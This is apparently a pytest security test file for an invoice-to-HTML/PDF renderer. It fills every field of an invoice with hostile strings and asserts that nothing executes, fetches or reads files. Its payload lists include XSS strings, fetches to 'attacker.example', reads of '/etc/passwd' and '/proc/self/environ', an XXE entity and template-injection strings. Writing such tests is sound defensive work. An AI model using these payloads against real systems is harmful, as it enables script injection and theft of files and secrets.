"""Strangers' text in every field: no script, no address opened, no file read, no failed invoice (trust 9)."""

from __future__ import annotations

import re
import socket
import sys
from collections.abc import Iterator
from dataclasses import fields, replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from documents.content import (
    DocumentLine,
    Fact,
    InvoiceDocument,
    LineKind,
    Party,
    PaymentAdvice,
    PaymentLine,
    VatLine,
)
from documents.press import NotBundledError, press
from documents.render import html, pdf
from tests.documents.reading import pages, read, text
from tests.documents.samples import FIRM, document, receipt

SECRET = "the-secret-in-the-file"
HOSTS = (
    "http://127.0.0.1:9/x",
    "https://attacker.example/x",
    "//attacker.example/x",
    "ftp://attacker.example/x",
)
FILES = ("file:///etc/passwd", "file://{secret}", "{secret}", "/proc/self/environ", "file:///etc/hostname#x")

MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</td></tr></table><h1>PAID</h1>",
    "<!-- ",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;img src=x&gt;&#x3c;script&#x3e;",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action=https://attacker.example><input name=x value=y></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<plaintext>",
    "<textarea>",
    "<template><b>",
    "<math><mi xlink:href='data:x,<script>'>",
    "' onload='alert(1)",
    '" onload="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "` onload=`alert(1)",
    "{{ document.firm }}{% include 'x' %}{# x #}",
    "{0.__class__}%(x)s${x}#{x}",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
]
FETCHES = [
    *(f"<img src='{url}'>" for url in (*HOSTS, *FILES)),
    *(f"<link rel=stylesheet href='{url}'>" for url in (*HOSTS, *FILES)),
    *(f"<link rel=attachment href='{url}'>" for url in FILES),
    *(f"<style>@import url('{url}');</style>" for url in (*HOSTS, *FILES)),
    *(f"<style>@font-face{{font-family:Inter;src:url('{url}')}}</style>" for url in HOSTS[:2]),
    *(f"<p style=\"background:url('{url}')\">x</p>" for url in (*HOSTS, *FILES)),
    *(f"<svg><image href='{url}'/><use href='{url}#a'/></svg>" for url in (*HOSTS[:2], *FILES[:2])),
    *(f"<object data='{url}'></object><embed src='{url}'><iframe src='{url}'></iframe>" for url in FILES[:3]),
    "<style>@page{background:url(https://attacker.example/x)}</style>",
    "<img srcset='https://attacker.example/x 2x'>",
    "<audio src=https://attacker.example/x></audio><video poster=file:///etc/passwd></video>",
    "<style>*{content:url(file:///etc/passwd)}</style>",
    "url(https://attacker.example/x)",
]
CHARACTERS = [
    "".join(map(chr, range(32))) + "end",
    "".join(map(chr, range(0x7F, 0xA0))) + "end",
    "\x00\x00\x00",
    "\ud800lone\udfff",
    "\ufeff\ufffe\uffff",
    "\u202e00.001£ yap ot llitS",
    "\u2066\u2067\u2068\u2069\u200e\u200f",
    "שלום עולם 123",
    "مرحبا بالعالم 456",
    "e" + "\u0301" * 500,
    "👷🏽‍♀️🔧🚿",
    "\U0010ffff\U000e0041",
    "\u2028\u2029\x85next",
    " \t\n\r\v\f ",
    "a\nb\r\nc\rd",
    "\N{ZERO WIDTH SPACE}" * 200,
    "%PDF-1.7 ) (endobj) \\",
]
LENGTHS = [
    "W" * 100_000,
    "word " * 2_000,
    "漢" * 5_000,
    "\n" * 5_000 + "x",
    "&" * 10_000,
    "<" * 10_000,
    "-" * 10_000,
]
SHORT = [*MARKUP, *FETCHES, *CHARACTERS]


def filled(payload: str, kind: InvoiceDocument) -> InvoiceDocument:
    """The document with the payload in every field of text."""
    return replace(
        kind,
        reference=payload,
        title=payload,
        note=payload,
        terms=payload,
        firm=_all(FIRM, payload, logo=FIRM.logo, logo_mime=payload, colour=payload),
        client=Party(name=payload, company=payload, address=(payload, payload), vat_number=payload),
        facts=(Fact(label=payload, lines=(payload, payload)),),
        lines=(
            DocumentLine(kind=LineKind.HEADING, description=payload),
            _all(
                kind.lines[1],
                payload,
                kind=LineKind.ITEM,
                quantity=Decimal(1),
                unit_price=Decimal(1),
                net=Decimal(1),
            ),
            DocumentLine(kind=LineKind.NOTE, description=payload, details=payload),
        ),
        vat_lines=(VatLine(label=payload, net=Decimal(1), vat=Decimal(0), wording=payload),),
        payments=tuple(
            PaymentLine(paid_on=each.paid_on, amount=each.amount, method=payload, note=payload)
            for each in kind.payments
        ),
        advice=_all(kind.advice, payload, balance=Decimal(1), due=kind.due_date) if kind.advice else None,
    )


def _all(thing: Any, payload: str, **other: Any) -> Any:
    values = {each.name: (payload,) if each.name == "address" else payload for each in fields(thing)}
    return replace(thing, **(values | other))


class Watch:
    """What the interpreter was asked to do while a page was printed."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        if not self.on:
            return
        if event.startswith(("socket.", "subprocess.", "os.exec", "os.system", "urllib.")):
            self.seen.append(f"{event} {args!r}")
        if (
            event == "open"
            and isinstance(args[0], str)
            and not args[0].startswith((sys.prefix, sys.base_prefix))
        ):
            self.seen.append(f"open {args[0]}")


watch = Watch()
sys.addaudithook(watch)


@pytest.fixture
def quiet(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """What was opened meanwhile, which must be nothing. Fonts and style are loaded before."""
    pdf(document(note="先に読み込む"))
    html(receipt())
    watch.seen.clear()
    watch.on = True
    yield watch.seen
    watch.on = False


def test_the_watch_sees(quiet: list[str], tmp_path: Path):
    """The control: without it, "nothing was opened" would say nothing."""
    (tmp_path / "x").write_text("x")
    socket.socket().close()
    assert {entry.split()[0] for entry in quiet} == {"open", "socket.__new__"}


def test_there_are_a_hundred_payloads():
    assert len(SHORT) + len(LENGTHS) >= 100


@pytest.mark.parametrize("payload", SHORT, ids=range(len(SHORT)))
def test_payloads_are_text_and_nothing_else(payload: str, quiet: list[str], tmp_path: Path):
    secret = tmp_path / "secret"
    watch.on = False
    secret.write_text(SECRET)
    watch.on = True
    payload = payload.replace("{secret}", str(secret))
    kind = receipt() if len(payload) % 2 else document()
    hostile = filled(payload, kind)
    page = html(hostile)
    printed = press(page, FIRM.logo)
    assert quiet == []
    watch.on = False
    assert_harmless(page, printed)


@pytest.mark.slow
@pytest.mark.parametrize("payload", LENGTHS, ids=[f"{each[0]!r} × {len(each)}" for each in LENGTHS])
def test_texts_without_end(payload: str):
    printed = pdf(document(note=payload, lines=(DocumentLine(description=payload[:2_000], net=Decimal(1)),)))
    assert len(printed) < 5_000_000


def assert_harmless(page: str, printed: bytes) -> None:
    own = html(document()) + html(receipt())
    assert set(re.findall(r"<[a-z]+", page)) <= set(re.findall(r"<[a-z]+", own)) | {"<p", "<br", "<h"}
    assert not re.search(r"""<[^>]*\son\w+\s*=\s*["'][^>]*>""", re.sub(r'"[^"]*"', '""', page))
    body = printed
    assert SECRET not in text(body)
    assert b"/JavaScript" not in body
    assert b"/EmbeddedFile" not in body
    assert b"/Launch" not in body
    assert "root:x:0" not in text(body)
    for sheet in read(body).pages:
        for link in sheet.get("/Annots", []):
            assert str(link.get_object()["/A"]["/URI"]).startswith("http")


def test_marks_of_direction_do_not_reorder_figures():
    printed = pages(pdf(document(note="\u202eTotal £0.01\u202c")))[0]
    assert "Total £0.01" in printed


def test_the_printer_gives_nothing_that_is_not_bundled(tmp_path: Path):
    (tmp_path / "secret").write_text(SECRET)
    for url in (
        "file:///etc/passwd",
        f"file://{tmp_path}/secret",
        "http://127.0.0.1:9/",
        "data:text/css,*{}",
        "cma:font/x",
    ):
        for page in (
            f"<img src='{url}'>",
            f"<style>@import '{url}'</style>",
            f"<link rel=stylesheet href='{url}'>",
        ):
            with pytest.raises(NotBundledError):
                press(page)


def test_payment_advice_takes_only_web_addresses():
    for url in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        'https://a.example/"><script>',
        "x",
    ):
        plain = document()
        assert plain.advice is not None
        advice: PaymentAdvice = replace(plain.advice, url=url)
        assert "<a " not in html(replace(plain, advice=advice))
